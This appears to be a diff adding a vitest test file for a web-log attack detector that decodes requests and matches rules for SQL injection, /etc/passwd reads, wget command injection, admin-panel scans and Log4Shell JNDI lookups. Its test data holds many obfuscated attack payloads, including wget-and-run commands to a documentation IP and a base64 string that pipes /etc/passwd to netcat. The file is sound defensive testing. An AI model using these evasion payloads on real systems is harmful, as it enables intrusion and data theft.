@@ -1,0 +1,219 @@
+import { describe, expect, it } from 'vitest'
+import { encode } from '../../src/base/bytes.ts'
+import { Matcher, type WatchedField } from '../../src/engine/rules/compile.ts'
+import { defineRule, type Part, type Rule } from '../../src/engine/rules/rule.ts'
+
+function rule(
+  id: string,
+  where: Rule['where'],
+  needs: Rule['needs'],
+  match: RegExp,
+  more: Partial<Rule> = {},
+): Rule {
+  return defineRule({
+    id,
+    title: id,
+    why: id,
+    ja: { title: id, why: id },
+    severity: 'high',
+    stage: 'inject',
+    attack: ['T1190'],
+    refs: [],
+    where,
+    needs,
+    match,
+    hits: ['GET /', 'GET /'],
+    misses: ['GET /', 'GET /'],
+    ...more,
+  })
+}
+
+const union = rule(
+  'sqli/union',
+  ['path', 'query', 'referrer', 'agent'],
+  ['union', 'select'],
+  /\bunion\s+(?:all\s+)?select\b/i,
+)
+const passwd = rule('lfi/passwd', ['target'], ['etc/passwd'], /\/etc\/passwd/i)
+const wget = rule('cmdi/wget', ['query', 'arg', 'agent'], ['wget'], /(?:^|[;|&= ])wget\s+http/i)
+const admin = rule(
+  'scan/admin',
+  ['path'],
+  [['phpmyadmin', 'pma']],
+  /^\/(?:phpmyadmin|pma)(?:\/|$)/i,
+)
+const posted = rule('scan/posted', ['path'], ['upload'], /upload/, {
+  when: { method: ['POST'], status: ['2xx', '404'] },
+})
+const jndi = rule('jndi/lookup', ['target', 'agent', 'referrer'], ['${jndi:'], /\$\{jndi:/i)
+const step = rule('lfi/step', ['arg'], ['../'], /=\.\.\/\.\.\//)
+const matcher = new Matcher([union, passwd, wget, admin, posted, jndi, step])
+
+function look(field: WatchedField, text: string): string[] {
+  const bytes = encode(`##${text}##`)
+  return matcher
+    .look(field, bytes, 2, bytes.length - 2)
+    .map((number) => matcher.rules[number]?.id ?? '')
+}
+
+describe('look', () => {
+  it('finds nothing in ordinary values, and says so with the same frozen list', () => {
+    const bytes = encode('/news/2026/10/a-union-of-cats?page=2&sort=asc')
+    const found = matcher.look('target', bytes, 0, bytes.length)
+    expect(found).toEqual([])
+    expect(Object.isFrozen(found)).toBe(true)
+    expect(matcher.look('agent', bytes, 0, 0)).toBe(found)
+  })
+
+  it.each([
+    '/a?id=1+union+select+2',
+    '/a?id=1%20UNION%20SELECT%202',
+    '/a?id=1%2520union%252520select%25252520%2525202',
+    '/a?id=1/**/union/**/all/**/select/**/2',
+    '/a?id=1/*!50000union*//*!select*/2',
+    '/a?id=1%u0020union%u0020select%u00202',
+    '/a?id=1+%EF%BC%B5NION+SE%E2%80%8BLECT+2',
+    '/a?id=1+&%23117;nion+select+2',
+    '/a/1+union%20select/x?y', // plus is no space in a path, the blank is
+    String.raw`/a?id=1\x20union\x20select\x202`,
+  ])('sees through %s', (target) => {
+    expect(look('target', target)).toContain('sqli/union')
+  })
+
+  it.each([
+    '/etc/passwd',
+    '/%65tc/pa%73swd',
+    '/a?f=/e%c0%aftc/x/..%c0%afetc%c0%afpasswd',
+    '/a?f=../../etc/./passwd%00.jpg',
+    String.raw`/a?f=..\\..\\etc\\passwd`,
+    '/a?f=/etc/pass%00wd',
+    '/a?f=cat${IFS}/e\'\'tc/pa""sswd',
+    '/a?f=/e?c/p*swd',
+    '/a?f=/???/pa??wd',
+    '/a?x=Y2F0IC9ldGMvcGFzc3dkIHwgbmMgMTAuMC4wLjEgNDQ0NA==',
+  ])('reads %s as a path', (target) => {
+    expect(look('target', target)).toContain('lfi/passwd')
+  })
+
+  it.each([
+    '/x?c=;wget${IFS}http://192.0.2.1/x.sh',
+    '/x?c=;wget$IFS$9http://192.0.2.1/x.sh',
+    "/x?c=;w'g'et+http://192.0.2.1/x.sh",
+    '/x?c=;w\\get+http://192.0.2.1/x.sh',
+    '/x?c=;{wget,http://192.0.2.1/x.sh}',
+    '/x?c=;wg$@et+http://192.0.2.1/x.sh',
+    '/x?c=;wg${u:-}et+http://192.0.2.1/x.sh',
+    '/x?c=;w^g^e^t+http://192.0.2.1/x.sh',
+  ])('reads %s as a shell would', (target) => {
+    expect(look('target', target)).toContain('cmdi/wget')
+  })
+
+  it.each([
+    '${jndi:ldap://x/a}',
+    '${${lower:j}ndi:ldap://x/a}',
+    '${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}',
+    '${j${env:NaN:-n}di:ldap://x/a}',
+    '${${lower:${lower:j}}${upper:n}di:ldap://x/a}',
+    '%24%7B%24%7Blower:j%7Dndi:ldap://x/a%7D',
+    '${base64:JHtqbmRpOmxkYXA6Ly94L2F9}',
+  ])('resolves %s', (agent) => {
+    expect(look('agent', agent)).toEqual(['jndi/lookup'])
+  })
+
+  it('looks at each parameter alone and at the query as a whole', () => {
+    expect(look('target', '/x?a=1;wget+http://x')).toContain('cmdi/wget')
+    expect(look('target', '/x?a=%3bwget+http://x&b=1')).toContain('cmdi/wget')
+    expect(look('target', '/x?a=1&f=../../x')).toEqual(['lfi/step'])
+  })
+
+  it('looks into request lines that could not be cut, and not into fields that a rule does not name', () => {
+    expect(look('request', 'GET /phpmyadmin/ HTTP/1.1')).toEqual(['scan/admin'])
+    expect(look('request', 'GET  /a?id=1+union+select+1')).toContain('sqli/union')
+    expect(look('request', 'union select')).toEqual(['sqli/union'])
+    expect(look('referrer', 'http://a/etc/passwd')).toEqual([])
+    expect(look('referrer', 'http://a/?q=1+union+select+2')).toEqual(['sqli/union'])
+  })
+
+  it('reads absolute targets with and without the host', () => {
+    expect(look('target', 'http://192.0.2.1:80/pma/')).toEqual(['scan/admin'])
+    expect(look('target', '/PhpMyAdmin')).toEqual(['scan/admin'])
+  })
+})
+
+describe('keep', () => {
+  it('applies what a rule asks of the row', () => {
+    const number = matcher.rules.indexOf(posted)
+    expect(matcher.keep([0, number], 'POST', 201)).toEqual([0, number])
+    expect(matcher.keep([0, number], 'POST', 404)).toEqual([0, number])
+    expect(matcher.keep([0, number], 'POST', 500)).toEqual([0])
+    expect(matcher.keep([0, number], 'GET', 200)).toEqual([0])
+    expect(matcher.keep([number], 'POST', 0)).toEqual([])
+  })
+})
+
+describe('explain', () => {
+  it('shows the steps and marks the match in each', () => {
+    const { traces, hits } = matcher.explain('target', '/a?id=1%2520union%2520select+2')
+    expect(hits.map(({ rule: { id }, match, step: at }) => [id, match, at])).toEqual([
+      ['sqli/union', 'union select', 'percent2'],
+    ])
+    expect(traces.map(({ field }) => field)).toEqual(['query'])
+    const steps = (traces[0]?.steps ?? []).map(({ step: name, text, marks }) => [
+      name,
+      marks.map(({ start, end, here }) => [text.slice(start, end), here]),
+    ])
+    expect(steps).toEqual([
+      ['raw', [['union%2520select', false]]],
+      ['plus', [['union%2520select', false]]],
+      ['percent', [['union%20select', false]]],
+      ['percent2', [['union select', true]]],
+    ])
+  })
+
+  it('gives the way to plain text where nothing was found', () => {
+    const { traces, hits } = matcher.explain('target', '/caf%C3%A9')
+    expect(hits).toEqual([])
+    expect(traces).toEqual([
+      {
+        field: 'target',
+        steps: [
+          { step: 'raw', text: '/caf%C3%A9', marks: [] },
+          { step: 'percent', text: '/café', marks: [] },
+        ],
+      },
+    ])
+  })
+
+  it('caps the evidence', () => {
+    const long = new Matcher([rule('x/long', ['target'], ['aaa'], /a+/)])
+    const [hit] = long.explain('target', `/${'a'.repeat(5000)}`).hits
+    expect(hit?.match).toHaveLength(300)
+  })
+
+  it('agrees with look on every field and on bytes that are not UTF-8', () => {
+    const values = [
+      '/a?id=1+union+select+2',
+      "/x?c=;w'g'et+http://x/../../etc/passwd",
+      '\xff%ff${${::-j}ndi:x}',
+      '/pma',
+    ]
+    const fields: readonly (WatchedField & Part)[] = [
+      'target',
+      'referrer',
+      'agent',
+      'user',
+      'message',
+      'request',
+    ]
+    for (const field of fields) {
+      for (const value of values) {
+        const bytes = Uint8Array.from(value, (char) => char.charCodeAt(0))
+        const ids = matcher
+          .look(field, bytes, 0, bytes.length)
+          .map((number) => matcher.rules[number]?.id ?? '')
+        const explained = matcher.explain(field, bytes).hits.map((hit) => hit.rule.id)
+        expect(explained.sort()).toEqual(ids.sort())
+      }
+    }
+  })
+})
